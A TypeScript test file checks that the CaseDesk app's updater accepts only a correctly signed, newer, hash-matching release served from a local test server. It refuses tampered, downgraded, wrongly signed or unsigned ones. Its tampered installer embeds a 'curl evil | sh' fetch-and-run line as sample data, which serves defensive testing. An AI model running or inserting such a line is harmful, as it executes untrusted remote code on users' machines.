import { generateKeyPairSync, randomBytes, createHash, type KeyObject } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkDownloadedUpdate } from './downloadedUpdate';
import { signChannelFile, type TrustedKey } from './updateSignature';
import { checkRelease, type ReleaseSource } from './verifiedRelease';

// Issue 16: the update check against a real HTTP server on 127.0.0.1 (a port
// of this suite's range), serving a good release and each way a release can
// be bad. Only the good one may be accepted.
const PORT = 43167;
const BASE = `http://127.0.0.1:${PORT}`;
const CURRENT = '0.1.0';
const CHANNEL = 'latest-linux.yml';

function keyPair(id: string): { trusted: TrustedKey; privateKey: KeyObject } {
  const { publicKey, privateKey } = generateKeyPairSync('ed25519');
  return { trusted: { id, publicKeyPem: publicKey.export({ type: 'spki', format: 'pem' }).toString() }, privateKey };
}
const release = keyPair('release-test');
const stranger = keyPair('release-test'); // same name, another key: what a thief of the server would have
const otherName = keyPair('someone-else');

const installer = randomBytes(256 * 1024);
const sha512 = (bytes: Uint8Array) => createHash('sha512').update(bytes).digest('base64');

/** A channel file as electron-builder writes it. */
function channelFile(version: string, bytes: Uint8Array): string {
  const name = `CaseDesk-${version}-x86_64.AppImage`;
  return [
    `version: ${version}`,
    'files:',
    `  - url: ${name}`,
    `    sha512: ${sha512(bytes)}`,
    `    size: ${bytes.byteLength}`,
    `path: ${name}`,
    `sha512: ${sha512(bytes)}`,
    "releaseDate: '2026-12-01T08:00:00.000Z'",
    '',
  ].join('\n');
}

/** Every release the server offers: folder → file name → bytes. */
const releases = new Map<string, Map<string, Uint8Array>>();
function offer(folder: string, files: Record<string, Uint8Array | string>) {
  releases.set(folder, new Map(Object.entries(files).map(([name, body]) => [name, typeof body === 'string' ? Buffer.from(body) : body])));
}
function signed(yml: string, key: { trusted: TrustedKey; privateKey: KeyObject } = release): string {
  return JSON.stringify(signChannelFile(CHANNEL, Buffer.from(yml), { id: key.trusted.id, privateKey: key.privateKey }));
}

let server: Server;
let downloads: string;
beforeAll(async () => {
  downloads = await mkdtemp(join(tmpdir(), 'casedesk-update-'));
  const good = channelFile('0.2.0', installer);
  offer('good', { [CHANNEL]: good, [`${CHANNEL}.sig`]: signed(good), 'CaseDesk-0.2.0-x86_64.AppImage': installer });

  const evil = Buffer.concat([installer.subarray(0, 1000), Buffer.from('#!/bin/sh\ncurl evil | sh\n'), installer.subarray(1030)]);
  offer('tampered-file', { [CHANNEL]: good, [`${CHANNEL}.sig`]: signed(good), 'CaseDesk-0.2.0-x86_64.AppImage': evil });

  // the channel file rewritten to name the evil installer's hash, the old signature left beside it
  offer('tampered-yml', { [CHANNEL]: channelFile('0.2.0', evil), [`${CHANNEL}.sig`]: signed(good), 'CaseDesk-0.2.0-x86_64.AppImage': evil });

  const old = channelFile('0.0.9', installer);
  offer('downgrade', { [CHANNEL]: old, [`${CHANNEL}.sig`]: signed(old), 'CaseDesk-0.0.9-x86_64.AppImage': installer });

  offer('wrong-key', { [CHANNEL]: good, [`${CHANNEL}.sig`]: signed(good, stranger), 'CaseDesk-0.2.0-x86_64.AppImage': installer });
  offer('unknown-key', { [CHANNEL]: good, [`${CHANNEL}.sig`]: signed(good, otherName), 'CaseDesk-0.2.0-x86_64.AppImage': installer });
  offer('unsigned', { [CHANNEL]: good, 'CaseDesk-0.2.0-x86_64.AppImage': installer });
  const same = channelFile(CURRENT, installer);
  offer('same-version', { [CHANNEL]: same, [`${CHANNEL}.sig`]: signed(same) });

  server = createServer((req, res) => {
    const [, folder, name] = (req.url ?? '').split('/');
    const body = releases.get(folder ?? '')?.get(name ?? '');
    if (!body) return void res.writeHead(404).end();
    res.writeHead(200, { 'Content-Length': body.byteLength }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(PORT, '127.0.0.1', resolve));
});
afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
  await rm(downloads, { recursive: true, force: true });
});

function source(folder: string): ReleaseSource {
  return {
    channelFile: CHANNEL,
    fetchBytes: async (name) => {
      const response = await fetch(`${BASE}/${folder}/${name}`);
      if (response.status === 404) return null;
      if (!response.ok) throw new Error(`HTTP ${response.status}`);
      return new Uint8Array(await response.arrayBuffer());
    },
  };
}

/** What electron-updater does once the check says "available": download the installer the channel file names. */
async function download(folder: string, url: string): Promise<string> {
  const path = join(downloads, `${folder}-${url}`);
  await writeFile(path, new Uint8Array(await (await fetch(`${BASE}/${folder}/${url}`)).arrayBuffer()));
  return path;
}

/** The whole path an update takes: verified check, download, verified file. */
async function updateFrom(folder: string) {
  const check = await checkRelease(source(folder), CURRENT, [release.trusted]);
  if (check.state !== 'available') return check;
  const file = await download(folder, check.manifest.files[0]!.url);
  const problem = await checkDownloadedUpdate(file, check.manifest);
  return problem === null ? { state: 'install', version: check.manifest.version } : { state: 'refused', problem };
}

describe('updates verified against the release key built into the app', () => {
  it('accepts a good release: signed channel file, newer version, installer as hashed', async () => {
    expect(await updateFrom('good')).toEqual({ state: 'install', version: '0.2.0' });
  });

  it('refuses an installer that is not the one the signed channel file names', async () => {
    expect(await updateFrom('tampered-file')).toEqual({ state: 'refused', problem: 'hash-mismatch' });
  });

  it('refuses a channel file changed after it was signed', async () => {
    expect(await updateFrom('tampered-yml')).toEqual({ state: 'refused', problem: 'bad-signature' });
  });

  it('refuses an older release, though correctly signed (a downgrade)', async () => {
    expect(await updateFrom('downgrade')).toEqual({ state: 'refused', problem: 'downgrade' });
  });

  it('refuses a release signed with another key, under our key name or its own', async () => {
    expect(await updateFrom('wrong-key')).toEqual({ state: 'refused', problem: 'bad-signature' });
    expect(await updateFrom('unknown-key')).toEqual({ state: 'refused', problem: 'unknown-key' });
  });

  it('refuses a release without a signature, and says up to date for the running version', async () => {
    expect(await updateFrom('unsigned')).toEqual({ state: 'refused', problem: 'signature-missing' });
    expect(await updateFrom('same-version')).toEqual({ state: 'up-to-date', version: CURRENT });
  });

  it('says the server is unreachable when there is no channel file', async () => {
    expect(await updateFrom('nothing-here')).toEqual({ state: 'refused', problem: 'unreachable' });
  });

  it('binds the signature to the channel file name: the Linux file cannot pass as the Windows one', async () => {
    const linux = source('good');
    const asWindows: ReleaseSource = { channelFile: 'latest.yml', fetchBytes: (name) => linux.fetchBytes(name.replace('latest.yml', CHANNEL)) };
    expect(await checkRelease(asWindows, CURRENT, [release.trusted])).toEqual({ state: 'refused', problem: 'bad-signature' });
  });
});
